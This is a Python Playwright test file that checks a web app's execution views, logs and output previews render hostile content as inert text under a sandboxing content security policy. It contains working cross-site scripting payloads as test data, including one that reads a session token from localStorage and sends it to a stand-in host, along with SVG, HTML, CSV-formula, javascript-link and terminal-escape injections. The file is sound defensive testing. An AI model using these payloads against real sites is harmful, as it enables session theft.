"""What an execution wrote tries to get at the session of whoever looks at it."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import expect

from localhai.testing import Canned

STEAL = "window.stolen=1;new Image().src='/steal?'+localStorage.getItem('localhai.token');fetch('http://127.0.0.1:9/')"
TAG = f'<img src=x onerror="{STEAL}">'
SCRIPT = f"<script>{STEAL}</script>"
NAME = "<img src=x onerror=window.stolen=1>.txt"
KEY = "<b onmouseover=window.stolen=1>loss</b>\nwith a newline"
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="{STEAL.replace("'", "&apos;")}">
<script>{STEAL}</script><image href="http://127.0.0.1:9/a.png"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:window.stolen=1"/></foreignObject></svg>"""
HTML = f"""<!doctype html><html><head><base href="http://127.0.0.1:9/"><link rel="stylesheet" href="a.css">
<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/"></head><body onload="{STEAL}">{TAG}{SCRIPT}
<script>try {{ parent.stolen = parent.localStorage }} catch (e) {{}}; top.location = "http://127.0.0.1:9/"</script>
<form action="http://127.0.0.1:9/"><input name=a><button>go</button></form><h1>harmless</h1></body></html>"""
MARKDOWN = f"""# harmless

{TAG} {SCRIPT} <iframe srcdoc="{TAG.replace('"', "&quot;")}"></iframe> <style>@import "http://127.0.0.1:9/a.css";</style>

[click](javascript:window.stolen=1) ![pixel](http://127.0.0.1:9/pixel.png) <a href="//127.0.0.1:9/">elsewhere</a>
<form action="http://127.0.0.1:9/"><button formaction="javascript:window.stolen=1">go</button></form>
<a id="app"></a><svg><a xlink:href="javascript:window.stolen=1"><text>x</text></a></svg>
"""
FILES = {
    NAME: TAG + SCRIPT,
    "page.html": HTML,
    "picture.svg": SVG,
    "notes.md": MARKDOWN,
    "table.csv": f'name,{TAG}\n"=HYPERLINK(""http://127.0.0.1:9/"")",{SCRIPT}\n',
    "facts.json": json.dumps({TAG: SCRIPT, "__proto__": {"stolen": 1}}),
    "liar.png": HTML,
    "liar.txt": HTML,
}
LOG = f"{TAG}{SCRIPT}\n\x1b]8;;javascript:window.stolen=1\x07link\x1b]8;;\x07\n\x1b[31m{SCRIPT}\x1b[0m\n" + "\n".join(
    json.dumps({KEY: number, TAG: number}) for number in range(3)
)


@pytest.fixture
def looked(visit, server):
    """A person who is let in looks at an execution that is hostile wherever it can be."""
    server.engine.behave(Canned(output=f"{LOG}\n", files=FILES, exit_code=1), step="train")
    execution = server.run()
    server.home.records.executions.update(execution.id, tags=[TAG, SCRIPT])
    seen = visit(server)
    seen.allow("Content Security Policy|sandbox")  # what the browser says of what it did not let happen
    page = seen.open(server.login(server.path()))
    expect(page.get_by_role("checkbox", name="Select #1")).to_be_visible()
    yield seen, page, server, execution
    assert page.evaluate("window.stolen") is None
    made = "[onerror], [onload], [onmouseover], base, form[action], a[href^=javascript]"
    assert page.locator(made).count() == 0
    assert page.evaluate("document.scripts.length") == 1
    assert not [url for url in seen.requests if "steal" in url or "127.0.0.1:9/" in url]
    assert page.url.startswith(server.url)


def test_names_keys_and_tags_are_text(looked):
    seen, page, server, execution = looked
    expect(page.get_by_text("onerror").first).to_be_visible()
    page.get_by_role("button", name="Columns").click()
    seen.open(server.path(execution), page)
    expect(page.get_by_text("with a newline").first).to_be_visible()


def test_lines_of_a_log_are_text(looked):
    seen, page, server, execution = looked
    seen.open(server.path(execution, "log/"), page)
    expect(page.get_by_text(SCRIPT).first).to_be_visible()
    page.get_by_role("button", name="Wrap").click()
    expect(page.get_by_text(SCRIPT).first).to_be_visible()
    page.get_by_placeholder("Search").fill("<script>")
    expect(page.locator("mark").first).to_be_visible()
    assert page.locator("a[href^=javascript]").count() == 0


@pytest.mark.parametrize("name", sorted(FILES))
def test_a_preview_gets_at_nothing(looked, name):
    seen, page, server, execution = looked
    seen.open(server.path(execution, "outputs/"), page)
    page.get_by_role("button", name=name).click()
    expect(page.get_by_role("heading", name=name, exact=True)).to_be_visible()
    shown = page.get_by_role("region", name=name)
    expect(shown.locator("iframe, img, pre, table, h1, p:not(.output-about)").first).to_be_visible()
    for frame in page.frames[1:]:
        frame.wait_for_load_state()
        assert frame.url.startswith("blob:")


def test_the_bytes_of_an_output_run_as_nothing_where_they_come_from(looked):
    _seen, page, _server, execution = looked
    (output,) = (item for item in execution.outputs if item["name"] == "page.html")
    asked = """async (id) => {
        const headers = { Authorization: `Token ${localStorage.getItem("localhai.token")}` };
        const answer = await fetch(`/page/outputs/${id}/`, { headers });
        return [answer.status, Object.fromEntries(answer.headers)];
    }"""
    status, headers = page.evaluate(asked, output["id"])
    assert status == 200
    assert "sandbox" in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["content-type"].startswith("text/plain")
